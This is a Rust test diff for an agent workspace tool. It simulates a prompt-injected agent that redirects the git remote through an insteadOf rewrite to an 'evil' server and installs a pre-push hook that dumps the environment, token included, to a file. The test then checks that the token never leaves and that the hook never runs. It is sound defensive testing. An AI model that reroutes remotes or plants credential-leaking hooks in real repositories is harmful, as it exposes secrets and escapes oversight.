@@ -83,3 +83,70 @@ async fn a_wrong_token_is_unauthorized_and_not_echoed() {
     assert!(matches!(err, WorkspaceError::Unauthorized(_)), "{err}");
     assert!(!err.to_string().contains("not-the-token"), "{err}");
 }
+
+/// What an agent in the worktree can do to the config it shares with the mirror.
+fn agent_git(worktree: &std::path::Path, args: &[&str]) {
+    let status = std::process::Command::new("git")
+        .args(args)
+        .current_dir(worktree)
+        .status()
+        .expect("git runs");
+    assert!(status.success(), "git {args:?}");
+}
+
+#[tokio::test]
+async fn an_agent_rerouting_the_remote_or_adding_hooks_never_gets_the_token() {
+    let sim = GiteaSim::start_with_token(TOKEN).await.expect("sim");
+    sim.create_repo("acme", "widgets").await.expect("repo");
+    let evil = GiteaSim::start_with_token("evil-token")
+        .await
+        .expect("evil sim");
+    evil.create_repo("acme", "widgets").await.expect("repo");
+    let dir = tempfile::tempdir().expect("temp dir");
+    let workspace = workspace(dir.path(), &sim, TOKEN);
+    let spec = spec();
+    let prepared = workspace
+        .prepare(&spec, Agent::Developer)
+        .await
+        .expect("prepare");
+
+    // A prompt-injected agent reroutes orch's remote and installs a hook that would print
+    // the environment (the token's config variable included).
+    let hooks = dir.path().join("evil-hooks");
+    std::fs::create_dir_all(&hooks).expect("hooks dir");
+    let leak = dir.path().join("leaked-env");
+    let hook = hooks.join("pre-push");
+    std::fs::write(&hook, format!("#!/bin/sh\nenv > {}\n", leak.display())).expect("hook");
+    std::process::Command::new("chmod")
+        .arg("+x")
+        .arg(&hook)
+        .status()
+        .expect("chmod");
+    let rewrite = format!("url.{}/.insteadOf", evil.base_url());
+    agent_git(
+        &prepared.path,
+        &["config", &rewrite, &format!("{}/", sim.base_url())],
+    );
+    agent_git(
+        &prepared.path,
+        &["config", "core.hooksPath", hooks.to_str().expect("utf-8")],
+    );
+    std::fs::write(prepared.path.join("evil.md"), "changes\n").expect("write");
+    workspace
+        .commit_leftovers(&spec, "ET-101: evil")
+        .await
+        .expect("commit");
+
+    let _ = workspace.push(&spec).await;
+    for request in evil.git_requests() {
+        let authorization = request.header("authorization").unwrap_or_default();
+        assert!(
+            !authorization.contains(TOKEN),
+            "the token reached the rerouted host: {request:?}"
+        );
+    }
+    assert!(
+        !leak.exists(),
+        "a hook the agent installed ran during orch's push"
+    );
+}
